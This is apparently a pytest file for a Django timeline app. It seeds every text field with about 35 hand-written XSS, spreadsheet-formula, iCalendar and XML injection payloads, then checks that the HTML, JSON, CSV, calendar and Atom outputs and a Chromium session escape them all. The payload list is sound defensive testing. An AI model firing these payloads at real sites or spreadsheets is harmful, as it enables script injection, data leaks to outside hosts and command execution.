"""An XSS corpus in every text field, rendered in every output (issue 10).

Each payload below was written for this test (none is from a source): the
classic script, event-handler and URL injections, attribute and script-block
breakouts, template syntax, spreadsheet formulas, iCalendar line breaks,
XML breakouts, unicode line separators and control characters. Every payload
goes into every text field a reader or an editor sees (CORPUS below), the
events are published, and every output is read the way its consumer reads it:

- HTML pages (the timeline, its fragment, the embed, event, actor and source
  pages, the admin): no element, attribute, script or URL that a payload
  made, and every payload shown as text;
- JSON in pages (the chart's figure, JSON-LD): no "<" in the script block,
  and Plotly's HTML-like strings (hover text, labels) hold only the app's
  own <b> and <br>;
- JSON (/events.json, /chart.json, /timeline.json): the exact text, served as
  JSON that no browser sniffs as HTML; TimelineJS JSON: HTML-escaped;
- CSV: no cell a spreadsheet would run as a formula;
- iCalendar: parsed by icalendar, no property or event that a payload made;
- Atom: well-formed XML, parsed by feedparser, no element a payload made.

test_no_payload_runs_in_chromium loads the pages in Chromium with the CSP in
force, hovers and clicks the chart, and asserts that nothing ran.
"""

import csv
import datetime
import io
import json
import re
import xml.etree.ElementTree as ElementTree
from html.parser import HTMLParser

import feedparser
import icalendar
import pytest
from django.apps import apps
from django.contrib import admin
from django.urls import reverse

from timeline.exports import spreadsheet_unsafe_undone
from timeline.models import Actor, Correction, Event, Participation, Quote, Source, TimelineTitle
from timeline.services import text_fingerprint
from timeline.tests.conftest import PASSWORD

# Written for this test: none of these is from a source.
PAYLOADS = [
    "<script>alert('xss-1')</script>",
    "<img src=x onerror=alert('xss-2')>",
    "<svg onload=alert('xss-3')>",
    "<svg><script>alert('xss-4')</script></svg>",
    "javascript:alert('xss-5')",
    "\"><script>alert('xss-6')</script>",
    "'><img src=x onerror=alert('xss-7')>",
    "'-alert('xss-8')-'",
    "\";alert('xss-9');//",
    "</script><script>alert('xss-10')</script>",
    "<!--<script>alert('xss-11')//-->",
    "{{7*7}} {% debug %} xss-12",
    "${alert('xss-13')} `${7*7}`",
    '=HYPERLINK("https://x.test/?leak="&A1,"xss-14")',
    "+cmd|' /C calc'!A0 xss-15",
    "-2+3+cmd|' /C calc'!A0 xss-16",
    "@SUM(1+1)*cmd|' /C calc'!A0 xss-17",
    "\t=1+1 xss-18",
    "xss-19\r\nATTENDEE:mailto:x@x.test\r\nX-INJECTED:19",
    "xss-20\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:injected-20",
    "xss-21\rATTENDEE:mailto:x@x.test",
    "\u2028alert('xss-22')\u2029",
    "<a href=\"javascript:alert('xss-23')\">xss-23</a>",
    "<iframe srcdoc=\"<script>alert('xss-24')</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-25')>",
    "]]><x:injected>xss-26</x:injected><![CDATA[",
    "&lt;script&gt;alert('xss-27')&lt;/script&gt;",
    "<details open ontoggle=alert('xss-28')>",
    "<b onmouseover=alert('xss-29')>xss-29</b>",
    "%3Cscript%3Ealert('xss-30')%3C/script%3E",
    "<style>*{background:url(//x.test/xss-31)}</style>",
    '<base href="//x.test/xss-32/">',
    "xss-33\x0bvertical tab, \x1b[31mterminal escape",
    "<scr<script>ipt>alert('xss-34')</scr</script>ipt>",
    "\\u003cscript\\u003ealert('xss-35')\\u003c/script\\u003e",
]
TITLE = "Test timeline </script><script>alert('xss-title')</script>"
DESCRIPTION = "<img src=x onerror=alert('xss-description')>"
KINDS = [kind for kind in Event.Kind.values]
STATUSES = [status for status in Event.Status.values]


def source_text(index: int, payload: str) -> str:
    """A source text written for this test, which the quote copies exactly."""
    return f"Written for this test, number {index}: {payload} End of the test text."


# Every text field a reader or an editor sees, as the records that hold a
# payload, made in this order from the payload, its index and the records
# made before it. A new text field, or a new record with text, is one line.
CORPUS = {
    Source: lambda p, i, made: Source(
        slug=f"xss-source-{i}", title=p, publisher=p, notes=p, text=source_text(i, p),
        sha256=text_fingerprint(source_text(i, p)),
    ),
    Actor: lambda p, i, made: Actor(
        slug=f"xss-actor-{i}", name=p, description=p, kind=Actor.Kind.PERSON
    ),
    Event: lambda p, i, made: Event(
        slug=f"xss-event-{i}", title=p, summary=p, date_basis=p,
        kind=KINDS[i % len(KINDS)], status=STATUSES[i % len(STATUSES)],
        start=datetime.date(2025, 1, 1) + datetime.timedelta(days=3 * i),
        publication=Event.Publication.PUBLISHED,
    ),
    Participation: lambda p, i, made: Participation(
        event=made[Event], actor=made[Actor], role=Participation.Role.PRINCIPAL
    ),
    Quote: lambda p, i, made: Quote(
        event=made[Event], source=made[Source], speaker=made[Actor], text=p
    ),
    Correction: lambda p, i, made: Correction(
        event=made[Event], note=p, changes=[{"field": "title", "before": p, "after": p}]
    ),
}  # fmt: skip


def build_corpus() -> list[dict]:
    """Every payload in every field of CORPUS, published; the records made, by payload."""
    TimelineTitle.objects.update_or_create(
        pk=1, defaults={"title": TITLE, "description": DESCRIPTION}
    )
    made_all = []
    for index, payload in enumerate(PAYLOADS):
        made = {}
        for model, make in CORPUS.items():
            record = make(payload, index, made)
            record.full_clean()  # a quote is anchored in its source here
            record.save()
            made[model] = record
        made_all.append(made)
    return made_all


@pytest.fixture
def corpus(db):
    return build_corpus()


# -- reading the outputs as their consumers do -----------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "cite"}
SCRIPT_DATA_TYPES = {"application/json", "application/ld+json"}
# Elements a payload makes that no page of the app or the admin has (the
# admin draws its own <svg> icons: an <svg> payload is caught by its onload).
FOREIGN_TAGS = {"iframe", "math", "mtext", "mglyph", "style", "object", "embed", "x:injected"}


class Markup(HTMLParser):
    """What a browser would build from HTML, as far as a payload could change it."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.scripts: list[tuple[dict, str]] = []
        self.text: list[str] = []
        self._script: tuple[dict, list] | None = None
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        self.elements.append((tag, attributes))
        self.text.extend(attributes.get(name, "") for name in ("value", "title", "aria-label"))
        if tag == "script":
            self._script = (attributes, [])

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            attributes, parts = self._script
            self.scripts.append((attributes, "".join(parts)))
            self._script = None

    def handle_data(self, data):
        (self._script[1] if self._script is not None else self.text).append(data)

    @property
    def shown(self) -> str:
        return squeezed("".join(self.text))


def squeezed(text: str) -> str:
    return " ".join(text.split())


def injected(markup: Markup) -> list[str]:
    """Everything in the markup that a payload, not the app, could have made."""
    found = []
    for tag, attributes in markup.elements:
        for name, value in attributes.items():
            if name.startswith("on") or name == "srcdoc":
                found.append(f"<{tag} {name}>")
            scheme = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if name in URL_ATTRIBUTES and scheme.startswith(
                ("javascript:", "vbscript:", "data:text")
            ):
                found.append(f"<{tag} {name}={value!r}>")
        if tag in FOREIGN_TAGS:
            found.append(f"<{tag}>")
        if tag == "img" and not attributes.get("src", "").startswith("/static/"):
            found.append(f"<img src={attributes.get('src')!r}>")
        if tag == "base" and "href" in attributes:
            found.append("<base href>")
    for attributes, text in markup.scripts:
        if attributes.get("type") in SCRIPT_DATA_TYPES:
            if "<" in text:  # "</script" or "<!--" would end or bend the block
                found.append(f"raw '<' in a {attributes['type']} block")
        elif "src" not in attributes or text.strip():
            found.append(f"an inline script: {text[:60]!r}")
    return found


def assert_safe_html(html: str, where: str, shows=()) -> Markup:
    markup = Markup(html)
    assert injected(markup) == [], where
    for payload in shows:
        assert squeezed(payload) in markup.shown, (where, payload)
    return markup


PLOTLY_TAGS = {"b", "br", "extra"}  # the only markup the chart writes into its strings


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def assert_safe_figure(figure: dict, where: str, shows=()) -> None:
    """Plotly renders a figure's text, hover text, labels and tick labels as
    HTML-like markup: every string may hold the app's <b> and <br>, nothing else."""
    shown = []
    for text in strings(figure):
        markup = Markup(text)
        tags = {(tag, tuple(attributes)) for tag, attributes in markup.elements}
        assert {tag for tag, _ in tags} <= PLOTLY_TAGS and all(not a for _, a in tags), (
            where,
            text,
        )
        assert not markup.scripts, (where, text)
        shown.append(markup.shown)
    everything = " ".join(shown)
    for payload in shows:
        assert squeezed(payload) in everything, (where, payload)


def page_json_scripts(markup: Markup) -> dict[str, list]:
    found = {}
    for attributes, text in markup.scripts:
        if attributes.get("type") in SCRIPT_DATA_TYPES:
            found.setdefault(attributes.get("id") or attributes["type"], []).append(
                json.loads(text)
            )
    return found


# -- the tests ------------------------------------------------------------------


def test_the_corpus_is_classic_and_goes_everywhere(corpus):
    assert len(PAYLOADS) >= 20 and len(set(PAYLOADS)) == len(PAYLOADS)
    assert Event.objects.published().count() == len(PAYLOADS)
    assert Quote.objects.filter(status=Quote.Status.VERIFIED).count() == len(PAYLOADS)
    for model, field in [(Event, "title"), (Actor, "name"), (Source, "title"), (Quote, "text")]:
        assert set(model.objects.values_list(field, flat=True)) == set(PAYLOADS)


FIRST_WINDOW, SECOND_WINDOW = PAYLOADS[:25], PAYLOADS[25:]  # the list shows 25 at a time


# Each timeline page: the payloads its list or chips show, and those its chart draws.
TIMELINE_PAGES = [
    ("/", {}, FIRST_WINDOW, PAYLOADS),
    ("/?page=2", {}, SECOND_WINDOW, PAYLOADS),
    ("/", {"HTTP_HX_REQUEST": "true", "HTTP_HX_TARGET": "results"}, FIRST_WINDOW, PAYLOADS),
    (
        "/?q=alert&actor=xss-actor-1&actor=xss-actor-2&source=xss-source-1",
        {},
        PAYLOADS[1:3],  # the event, and both actors' chips
        PAYLOADS[1:2],
    ),
    ("/?lanes=actor", {}, FIRST_WINDOW, PAYLOADS),
    ("/embed/", {}, FIRST_WINDOW, PAYLOADS),
    ("/sources/", {}, PAYLOADS, ()),
]


def test_timeline_pages_escape_every_payload(client, corpus):
    for url, headers, shows, charted in TIMELINE_PAGES:
        where = f"{url} {headers}"
        response = client.get(url, **headers)
        assert response.status_code == 200, where
        markup = assert_safe_html(response.content.decode(), where, shows)
        figures = page_json_scripts(markup).get("timeline-figure", [])
        assert len(figures) == (1 if charted else 0), where
        for figure in figures:
            assert_safe_figure(figure, where, shows=charted)
        if not headers:
            assert squeezed(TITLE) in markup.shown, where  # the site's title, in the page frame


def test_event_actor_and_source_pages_escape_every_payload(client, corpus):
    for made in corpus:
        payload = made[Event].title
        for record in (made[Event], made[Actor], made[Source]):
            url = record.get_absolute_url()
            html = client.get(url).content.decode()
            markup = assert_safe_html(html, url, [payload])
            assert record is not made[Event] or "Corrected on" in markup.shown  # the note shows
        event_url = made[Event].get_absolute_url()
        markup = Markup(client.get(event_url).content.decode())
        (schema,) = page_json_scripts(markup)["application/ld+json"]
        assert payload in strings_of(schema), event_url  # the exact text, safely in its block
        panel = client.get(event_url, HTTP_HX_REQUEST="true").content.decode()
        assert_safe_html(panel, f"{event_url} in the panel", [payload])


def strings_of(value) -> set[str]:
    return set(strings(value))


def test_chart_json_hover_text_and_labels_are_escaped(client, corpus):
    for url in ("/chart.json", "/chart.json?lanes=actor"):
        response = client.get(url)
        assert response["Content-Type"] == "application/json"
        assert_safe_figure(response.json(), url, shows=PAYLOADS)


def test_json_endpoints_give_the_exact_text_as_json(client, corpus):
    for url in ("/events.json", "/timeline.json"):
        response = client.get(url)
        assert response["Content-Type"] == "application/json"
        assert response["X-Content-Type-Options"] == "nosniff"  # never sniffed as HTML
        assert set(PAYLOADS) <= strings_of(response.json()), url
    events = client.get("/events.json").json()["events"]
    assert {event["title"] for event in events} == set(PAYLOADS)
    assert {quote["text"] for event in events for quote in event["quotes"]} == set(PAYLOADS)
    assert {note["note"] for event in events for note in event["corrections"]} == set(PAYLOADS)


def test_timelinejs_json_escapes_what_timelinejs_renders_as_html(client, corpus):
    document = client.get("/timelinejs.json").json()
    headlines = [slide["text"]["headline"] for slide in document["events"]]
    headlines.append(document["title"]["text"]["headline"])
    for headline in headlines:
        assert not Markup(headline).elements, headline
    assert {Markup(h).shown for h in headlines} == {squeezed(p) for p in [*PAYLOADS, TITLE]}
    for slide in document["events"]:
        markup = assert_safe_html(slide["text"]["text"], slide["unique_id"])
        links = [a.get("href", "") for tag, a in markup.elements if tag == "a"]
        assert all(link.startswith("http://testserver/events/") for link in links), links
        index = int(slide["unique_id"].rsplit("-", 1)[1])
        assert squeezed(PAYLOADS[index]) in markup.shown


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# Each export, and the column whose exported text is compared with the payloads.
CSV_EXPORTS = {"events.csv": "title", "quotes.csv": "text", "sources.csv": "title"}


def test_csv_exports_neutralise_every_formula(client, corpus):
    for name, column in CSV_EXPORTS.items():
        content = b"".join(client.get(f"/{name}").streaming_content).decode()
        rows = list(csv.reader(io.StringIO(content.removeprefix("\ufeff"))))
        header, cells = rows[0], [cell for row in rows[1:] for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], name
        exported = {spreadsheet_unsafe_undone(row[header.index(column)]) for row in rows[1:]}
        assert exported == set(PAYLOADS), name  # neutralised, not changed: an import gives it back


EVENT_PROPERTIES = {
    "UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "URL", "STATUS", "CATEGORIES",
}  # fmt: skip
CALENDAR_PROPERTIES = {"PRODID", "VERSION", "CALSCALE", "X-WR-CALNAME"}


def test_icalendar_has_no_property_or_event_a_payload_made(client, corpus):
    content = client.get("/events.ics").content
    # RFC 5545: every line ends in CRLF; a CR or LF alone would be a line break to lenient readers.
    assert not re.search(rb"\r(?!\n)|(?<!\r)\n", content)
    calendar = icalendar.Calendar.from_ical(content)
    assert set(calendar.keys()) == CALENDAR_PROPERTIES
    assert str(calendar["X-WR-CALNAME"]) == TITLE
    events = calendar.walk("VEVENT")
    assert len(events) == len(PAYLOADS)
    assert [component.name for component in calendar.subcomponents] == ["VEVENT"] * len(PAYLOADS)
    for event in events:
        assert set(event.keys()) == EVENT_PROPERTIES, set(event.keys()) - EVENT_PROPERTIES
    # A line break reads as one, whichever it was (icalendar escapes CR, LF and CRLF as \\n).
    assert {str(event["SUMMARY"]) for event in events} == {one_newline(p) for p in PAYLOADS}


def one_newline(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


ATOM = "{http://www.w3.org/2005/Atom}"
ATOM_ELEMENTS = {
    f"{ATOM}{name}"
    for name in (
        "feed", "title", "subtitle", "link", "id", "updated", "published", "entry", "summary",
        "category", "author", "name",
    )
}  # fmt: skip


def test_atom_feed_has_no_element_a_payload_made(client, corpus):
    content = client.get("/events.atom").content
    root = ElementTree.fromstring(content)  # noqa: S314 - our own feed; well-formed, or this raises
    assert {element.tag for element in root.iter()} <= ATOM_ELEMENTS
    entries = root.findall(f"{ATOM}entry")
    # XML reads every line break as LF (XML 1.0, 2.11).
    titles = {one_newline(as_xml(p)) for p in PAYLOADS}
    assert {entry.findtext(f"{ATOM}title") for entry in entries} == titles
    assert root.findtext(f"{ATOM}title").startswith(TITLE)
    for entry in entries:
        summary = entry.find(f"{ATOM}summary")
        assert summary.get("type") == "html"
        title = entry.findtext(f"{ATOM}title")
        assert_safe_html(summary.text, title, [title])  # the summary is the event's, escaped
    feed = feedparser.parse(content)
    assert not feed.bozo, feed.get("bozo_exception")
    assert {entry.title for entry in feed.entries} == {t.strip() for t in titles}  # as it strips


def as_xml(text: str) -> str:
    """The text as XML 1.0 can hold it: a control character reads as a space."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", " ", text)


def admin_urls(made: dict, *, every_page: bool) -> list[str]:
    """The source's change page (every field of a source is text); with
    `every_page`, the event's (whose inlines show its actors and quotes), the
    actor's, the quote's, each history and the source's passage picker too."""
    models = (Source, Event, Actor, Quote) if every_page else (Source,)
    urls = [
        reverse(f"admin:timeline_{m._meta.model_name}_change", args=[made[m].pk]) for m in models
    ]
    if every_page:
        urls += [
            reverse(f"admin:timeline_{m._meta.model_name}_history", args=[made[m].pk])
            for m in models
        ]
        urls.append(reverse("admin:timeline_source_attach_quote", args=[made[Source].pk]))
    return urls


# Every page of the admin for these payloads (one of each kind: a script, a
# handler, breakouts, a separator, CDATA, a control character); a source's
# change page for the rest. Every payload is in the changelists.
EVERY_ADMIN_PAGE = {0, 1, 9, 10, 22, 25, 33}


def test_admin_pages_escape_every_payload(admin_client, corpus):
    for model in apps.get_app_config("timeline").get_models():
        if not admin.site.is_registered(model):
            continue
        url = reverse(f"admin:timeline_{model._meta.model_name}_changelist")
        response = admin_client.get(url)
        assert response.status_code == 200, url
        assert_safe_html(response.content.decode(), url)
    for index, made in enumerate(corpus):
        for url in admin_urls(made, every_page=index in EVERY_ADMIN_PAGE):
            response = admin_client.get(url)
            assert response.status_code == 200, url
            assert_safe_html(response.content.decode(), url, [made[Event].title])


# -- in Chromium --------------------------------------------------------------------

# What the DOM would hold had a payload become markup: handlers, inline
# scripts, javascript: links, frames, and requests to the payloads' host.
INJECTED_IN_DOM = """() => {
  const found = [];
  for (const element of document.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      if (attribute.name.startsWith('on') || attribute.name === 'srcdoc') {
        found.push(element.tagName + ' ' + attribute.name);
      }
    }
    if (['IFRAME', 'MATH', 'OBJECT', 'EMBED'].includes(element.tagName)) found.push(element.tagName);
    if (element.tagName === 'SCRIPT' && !element.src &&
        !['application/json', 'application/ld+json'].includes(element.type)) {
      found.push('inline script: ' + element.textContent.slice(0, 60));
    }
    if (element.tagName === 'STYLE' && element.textContent.includes('x.test')) found.push('STYLE');
  }
  for (const link of document.querySelectorAll('[href]')) {
    if (/^\\s*javascript:/i.test(link.getAttribute('href'))) found.push('javascript: link');
  }
  return found;
}"""


@pytest.mark.browser
@pytest.mark.parametrize("csp", ["enforced", "bypassed"])
def test_no_payload_runs_in_chromium(live_server, transactional_db, django_user_model, csp):
    """With the CSP in force, and again with it bypassed (escaping alone must
    hold): no dialog, no console error, no injected element, nothing fetched
    from the payloads' host, on the pages, in the chart's hover labels and
    in the side panel."""
    from django.test import Client
    from playwright.sync_api import sync_playwright

    from timeline.tests.test_browser import CHROMIUM_FLAGS, chromium_path, screenshot

    corpus = build_corpus()
    editor = django_user_model.objects.create_superuser("xss-editor", password=PASSWORD)
    login = Client()
    login.force_login(editor)
    site = live_server.url
    pages = ["/", "/?page=2", "/?q=alert&actor=xss-actor-1&source=xss-source-1", "/?lanes=actor"]
    pages += ["/embed/", "/sources/", "/events.json"]
    pages += [made[model].get_absolute_url() for made in corpus for model in (Event, Actor)]
    pages += [corpus[index][Source].get_absolute_url() for index in (0, 1, 9, 22)]
    admin_pages = [reverse("admin:timeline_event_changelist")]
    for index in (0, 1, 9, 10, 22):
        admin_pages += [reverse("admin:timeline_event_change", args=[corpus[index][Event].pk])]
        admin_pages += [
            reverse("admin:timeline_source_attach_quote", args=[corpus[index][Source].pk])
        ]
    if csp == "bypassed":  # the pages where the most is drawn from the data
        pages, admin_pages = pages[:5] + pages[7:9], admin_pages[:3]

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium_path(), args=CHROMIUM_FLAGS)
        context = browser.new_context(
            viewport={"width": 1440, "height": 1000}, bypass_csp=csp == "bypassed"
        )
        page = context.new_page()
        dialogs, problems, off_site = [], [], []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on(
            "console", lambda message: message.type == "error" and problems.append(message.text)
        )
        page.on("pageerror", lambda error: problems.append(str(error)))
        page.on("request", lambda r: r.url.startswith(site) or off_site.append(r.url))

        def visit(url):
            response = page.goto(site + url)
            assert response.status == 200, url
            policy = response.headers.get("content-security-policy", "")
            assert (
                "script-src 'self'" in policy
                and "unsafe-inline" not in policy.split("style-src")[0]
            )
            assert page.evaluate(INJECTED_IN_DOM) == [], url

        for url in pages:
            visit(url)
            if url == "/":
                hover_and_click_the_chart(page, corpus)
                if csp == "enforced":
                    screenshot(page, "xss-corpus-timeline")
        context.add_cookies(
            [{"name": "sessionid", "value": login.cookies["sessionid"].value, "url": site}]
        )
        for url in admin_pages:
            visit(url)
        browser.close()
    assert dialogs == [] and problems == [] and off_site == []


def hover_and_click_the_chart(page, corpus) -> None:
    """Every point's hover label shows its payload as text; clicking one opens its event."""
    page.wait_for_function(
        "() => document.getElementById('timeline-chart')?.dataset.drawn === 'true'"
    )
    points = page.locator("#timeline-chart .scatterlayer .point")
    assert points.count() == len(corpus)
    hovered = set()
    for index in range(points.count()):
        point = points.nth(index)
        point.scroll_into_view_if_needed()
        # The event this marker draws, from Plotly's own data for it.
        url = point.evaluate("p => p.closest('.trace').__data__[0].trace.customdata[p.__data__.i]")
        payload = PAYLOADS[int(url.strip("/").rsplit("-", 1)[1])]
        box = point.bounding_box()
        page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        # Plotly shows a label's text, not markup: the payload reads as typed.
        page.wait_for_function(
            """expected => [...document.querySelectorAll('#timeline-chart .hoverlayer .hovertext')]
                 .some(label => label.textContent.replace(/\\s+/g, ' ').includes(expected))""",
            arg=squeezed(payload)[:24].strip(),
            timeout=5000,
        )
        hovered.add(payload)
        assert page.evaluate(INJECTED_IN_DOM) == [], payload
        assert (
            page.locator("#timeline-chart .hoverlayer a, #timeline-chart .hoverlayer image").count()
            == 0
        )
    assert hovered == set(PAYLOADS)
    points.first.scroll_into_view_if_needed()
    box = points.first.bounding_box()
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    page.locator("#event-detail article").wait_for()
    assert page.evaluate(INJECTED_IN_DOM) == []
